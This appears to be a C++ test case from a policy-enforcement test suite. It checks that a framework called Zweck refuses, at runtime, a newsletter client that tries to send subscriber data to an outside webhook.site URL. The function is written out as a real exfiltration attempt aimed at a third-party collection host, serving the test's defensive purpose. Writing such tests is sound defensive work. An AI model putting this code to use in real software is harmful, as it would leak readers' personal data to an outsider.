// SPDX-FileCopyrightText: 2026 The Zweck authors
// SPDX-License-Identifier: Apache-2.0

// Tries: posts what is for the mail house to a test server of somebody else.
// Stopped by: nobody, because an address is a text: Open refuses the host when the program runs
// Author: has not read the checks

#include "tests/escapes/others/policy.h"

namespace acme {

absl::Status TrySending(const Subscription& reader) {
  auto http = NewsletterHttp::Open({.url = "https://webhook.site/7f2c-try-me"});
  if (!http.ok()) return http.status();
  return zweck::Transmit<NewsletterMail>(reader, *http);
}

}  // namespace acme
